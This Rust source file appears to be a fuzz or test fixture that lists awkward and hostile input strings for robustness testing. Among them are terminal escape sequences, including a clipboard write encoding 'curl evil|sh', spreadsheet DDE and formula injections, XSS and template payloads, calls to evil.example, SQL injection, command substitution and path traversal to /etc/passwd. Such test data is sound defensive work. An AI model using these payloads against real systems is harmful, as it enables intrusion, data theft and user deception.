//! Texts that somebody could type, import or name a file with, in the groups of RELIABILITY 2.5.

/// All of them.
pub fn all() -> Vec<String> {
    let mut all: Vec<String> =
        [CONTROLS, ESCAPES, HIDDEN, TOWERS, LOOKALIKES, FORMULAS, HTML, MARKDOWN, QUERIES, NAMES]
            .iter()
            .flat_map(|group| group.iter().map(|text| (*text).to_owned()))
            .collect();
    all.extend([
        format!("a{}", "\u{301}".repeat(1_000)),
        format!("👩{}", "\u{200D}👩".repeat(300)),
        "漢".repeat(500),
        "🇮🇹".repeat(200),
        "x".repeat(300),
        format!("{}=1+1", " ".repeat(200)),
        "(".repeat(2_000),
        format!("\u{1B}]0;{}", "t".repeat(3_000)),
        "\u{202E}".repeat(100),
        format!("../{}", "../".repeat(100)),
    ]);
    all
}

/// X1: C0, DEL and C1 alone.
const CONTROLS: &[&str] = &[
    "nul\0nul",
    "soh\u{1}",
    "enq\u{5}",
    "bell\u{7}",
    "back\u{8}\u{8}\u{8}\u{8}space",
    "tab\tstop",
    "line\nfeed",
    "vt\u{B}x",
    "ff\u{C}x",
    "over\rwritten",
    "cr\r\nlf",
    "so\u{E}x",
    "si\u{F}x",
    "dle\u{10}",
    "xon\u{11}xoff\u{13}",
    "can\u{18}x",
    "sub\u{1A}x",
    "us\u{1F}x",
    "del\u{7F}x",
    "nel\u{85}x",
    "ind\u{84}x",
    "ri\u{8D}x",
    "c1 csi \u{9B}31m",
    "c1 osc \u{9D}0;t\u{9C}",
    "c1 dcs \u{90}q\u{9C}",
    "c1 apc \u{9F}x\u{9C}",
    "c1 pm \u{9E}x\u{9C}",
    "c1 sos \u{98}x\u{9C}",
];

/// X1: sequences that command a terminal.
const ESCAPES: &[&str] = &[
    "\u{1B}[31mred\u{1B}[0m",
    "\u{1B}[2J\u{1B}[H",
    "\u{1B}[1A\u{1B}[2K",
    "\u{1B}[8m hidden",
    "\u{1B}[?1049l",
    "\u{1B}[?25l",
    "\u{1B}[?1000h",
    "\u{1B}[?2004l",
    "\u{1B}[200~paste\u{1B}[201~",
    "\u{1B}[201~q",
    "\u{1B}[6n",
    "\u{1B}[c",
    "\u{1B}[>c",
    "\u{1B}[21t",
    "\u{1B}[8;1;1t",
    "\u{1B}[5i",
    "\u{1B}[4h",
    "\u{1B}[!p",
    "\u{1B}[1;1r",
    "\u{1B}[3g",
    "\u{1B}]0;title\u{7}",
    "\u{1B}]2;title\u{1B}\\",
    "\u{1B}]8;;http://evil.example\u{1B}\\bank.example\u{1B}]8;;\u{1B}\\",
    "\u{1B}]52;c;Y3VybCBldmlsfHNo\u{7}",
    "\u{1B}]52;c;?\u{7}",
    "\u{1B}]777;notify;a;b\u{7}",
    "\u{1B}]9;message\u{7}",
    "\u{1B}]1337;File=inline=1:AAAA\u{7}",
    "\u{1B}]4;1;?\u{7}",
    "\u{1B}]11;?\u{1B}\\",
    "\u{1B}]0;never ended",
    "\u{1B}P+q544e\u{1B}\\",
    "\u{1B}P0;1|17/6b\u{1B}\\",
    "\u{1B}_Gf=24;AAAA\u{1B}\\",
    "\u{1B}^pm\u{1B}\\",
    "\u{1B}Xsos\u{1B}\\",
    "\u{1B}c",
    "\u{1B}7\u{1B}8",
    "\u{1B}(0lqqk\u{1B}(B",
    "\u{1B}#8",
    "\u{1B}=\u{1B}>",
    "\u{1B}N\u{1B}O",
    "\u{1B}%G",
    "\u{1B}",
    "\u{1B}[",
    "\u{1B}[38;2;0;0;0m\u{1B}[48;2;0;0;0m",
];

/// X2: what cannot be seen.
const HIDDEN: &[&str] = &[
    "\u{202E}fdp.exe",
    "\u{202D}x\u{202C}",
    "\u{202A}x",
    "\u{202B}x",
    "\u{2066}x\u{2069}",
    "\u{2067}x",
    "\u{2068}x",
    "\u{200E}x",
    "\u{200F}x",
    "\u{61C}x",
    "zero\u{200B}width",
    "non\u{200C}joiner",
    "a\u{200D}b",
    "word\u{2060}joiner",
    "in\u{2062}visible",
    "bom\u{FEFF}x",
    "\u{FEFF}",
    "tag\u{E0001}\u{E0041}\u{E007F}",
    "line\u{2028}sep",
    "para\u{2029}sep",
    "soft\u{AD}hyphen",
    "vs\u{FE0F}16",
    "vs\u{E0100}17",
    "filler\u{3164}x",
    "half\u{FFA0}x",
    "anno\u{FFF9}a\u{FFFA}b\u{FFFB}",
    "mongol\u{180E}x",
    "object\u{FFFC}x",
];

/// X3: what is higher or wider than it seems.
const TOWERS: &[&str] = &[
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "👩‍👩‍👧‍👦",
    "❤\u{FE0F}",
    "❤\u{FE0E}",
    "1\u{FE0F}\u{20E3}",
    "🇮🇹🇪🇸🇮",
    "👍🏽",
    "ｱﾞﾞﾞﾞ",
    "각\u{11A8}\u{11A8}\u{11A8}",
    "क्षि",
    "ำ",
    "﷽",
    "𒐫",
    "Å",
    "e\u{301}",
    "\u{301}alone",
    "一二三",
    "ＦＵＬＬ",
];

/// X4: what looks like something else.
const LOOKALIKES: &[&str] = &["аpple.com", "раураl", "ɢoogle", "Ⅿicrosoft", "rn vs m", "О0Оl1I", "ﬁle", "①②③"];

/// X6: what a spreadsheet would compute.
const FORMULAS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "\u{A0}=1+1",
    "\u{200B}=1+1",
    "\"=1+1",
    ";=1+1",
    ",=1+1",
    "%0A=1+1",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "'=1+1",
    "\u{1B}=1",
    "\0=1+1",
    "−1+1",
];

/// X7: what a browser would run.
const HTML: &[&str] = &[
    "<script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!-- -->",
    "&#x3C;script&#x3E;",
    "<svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<style>*{background:url(http://evil.example)}</style>",
    "{{7*7}}",
    "{% raw %}{{ x }}",
    "${7*7}",
];

/// X8: what Markdown would become.
const MARKDOWN: &[&str] = &[
    "| a | b |",
    "`code`",
    "[x](javascript:alert(1))",
    "![](http://evil.example/track.gif)",
    "# heading",
    "- item",
    "> quote",
    "---",
    "a\\",
    "**bold** _it_",
];

/// X9: what a query language would read.
const QUERIES: &[&str] = &[
    "'; drop table deal; --",
    "\" or 1=1 --",
    "%",
    "_",
    "\\",
    "100%",
    "NEAR(\"",
    "a AND OR",
    "* ^ -",
    "\"unclosed",
    "x') union select 1 --",
    "?1",
    "$1",
    ":name",
    "stage:\"open",
    "{ $name }",
    "%s%n%d",
    "$(id)",
    "`id`",
];

/// X10: what a file would be called.
const NAMES: &[&str] = &[
    "../../etc/passwd",
    "/etc/passwd",
    "-rf",
    "C:\\Windows\\x",
    "con",
    "..",
    ".",
    "a/b",
    "~root",
    "file\0.txt",
    "*",
    "",
];
